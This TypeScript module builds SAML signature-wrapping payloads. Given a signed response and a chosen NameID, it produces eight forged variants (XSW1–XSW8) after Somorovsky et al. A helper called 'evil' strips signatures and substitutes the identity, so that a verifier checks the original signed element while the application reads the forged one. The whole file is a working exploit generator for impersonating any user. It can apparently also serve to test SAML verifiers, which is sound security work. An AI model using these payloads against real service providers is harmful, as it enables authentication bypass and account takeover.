import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

type Element = NonNullable<ReturnType<DOMParser['parseFromString']>['documentElement']>;

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const print = (node: Parameters<XMLSerializer['serializeToString']>[0]) => new XMLSerializer().serializeToString(node);

const first = (
  within: { getElementsByTagNameNS(ns: string, name: string): ArrayLike<Element> },
  name: string,
): Element => within.getElementsByTagNameNS('*', name)[0]!;

/** A copy of an element that speaks for somebody else, without the signature it had. */
function evil(original: Element, nameId: string): Element {
  const copy = original.cloneNode(true) as Element;
  copy.setAttribute('ID', '_evil');
  const signatures = copy.getElementsByTagNameNS('*', 'Signature');
  for (const signature of Array.from(signatures as unknown as ArrayLike<Element>))
    signature.parentNode!.removeChild(signature);
  first(copy, 'NameID').textContent = nameId;
  return copy;
}

/**
 * The eight ways of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012) to move a validly signed part to
 * where a verifier still finds it, and to put another one where the application reads. One and two are for signed responses,
 * the others for signed assertions; here each is made of an answer in which both, or the assertion alone, are signed.
 */
export function wrappings(xml: string, nameId: string): Record<string, string> {
  const made: Record<string, string> = {};
  const make = (name: string, change: (document: ReturnType<typeof parse>, response: Element) => void) => {
    const document = parse(xml);
    change(document, document.documentElement as Element);
    made[name] = print(document);
  };
  // The whole response is copied; the original goes into its signature, or before it.
  make('XSW1', (document, response) => {
    const copy = evil(response, nameId);
    const signature = first(response, 'Signature').cloneNode(true) as Element;
    document.removeChild(response);
    signature.appendChild(response);
    copy.insertBefore(signature, first(copy, 'Status'));
    document.appendChild(copy);
  });
  make('XSW2', (document, response) => {
    const copy = evil(response, nameId);
    const signature = first(response, 'Signature').cloneNode(true) as Element;
    const status = first(copy, 'Status');
    document.removeChild(response);
    copy.insertBefore(response, status);
    copy.insertBefore(signature, status);
    document.appendChild(copy);
  });
  // A second assertion beside the original, before it.
  make('XSW3', (_, response) => {
    const assertion = first(response, 'Assertion');
    response.insertBefore(evil(assertion, nameId), assertion);
  });
  // A second one around it.
  make('XSW4', (_, response) => {
    const assertion = first(response, 'Assertion');
    const copy = evil(assertion, nameId);
    response.replaceChild(copy, assertion);
    copy.appendChild(assertion);
  });
  // The original signature in the changed one, and the original without it at the end.
  make('XSW5', (_, response) => {
    const assertion = first(response, 'Assertion');
    const copy = assertion.cloneNode(true) as Element;
    const signature = first(assertion, 'Signature');
    assertion.removeChild(signature);
    copy.setAttribute('ID', '_evil');
    first(copy, 'NameID').textContent = nameId;
    response.replaceChild(copy, assertion);
    response.appendChild(assertion);
  });
  // The same, and the original within the signature.
  make('XSW6', (_, response) => {
    const assertion = first(response, 'Assertion');
    const copy = assertion.cloneNode(true) as Element;
    assertion.removeChild(first(assertion, 'Signature'));
    copy.setAttribute('ID', '_evil');
    first(copy, 'NameID').textContent = nameId;
    response.replaceChild(copy, assertion);
    first(copy, 'Signature').appendChild(assertion);
  });
  // The changed one in an element that may hold anything.
  make('XSW7', (document, response) => {
    const assertion = first(response, 'Assertion');
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(evil(assertion, nameId));
    response.insertBefore(extensions, assertion);
  });
  // The original in such an element within the changed one's signature.
  make('XSW8', (document, response) => {
    const assertion = first(response, 'Assertion');
    const copy = assertion.cloneNode(true) as Element;
    assertion.removeChild(first(assertion, 'Signature'));
    copy.setAttribute('ID', '_evil');
    first(copy, 'NameID').textContent = nameId;
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    response.replaceChild(copy, assertion);
    object.appendChild(assertion);
    first(copy, 'Signature').appendChild(object);
  });
  return made;
}
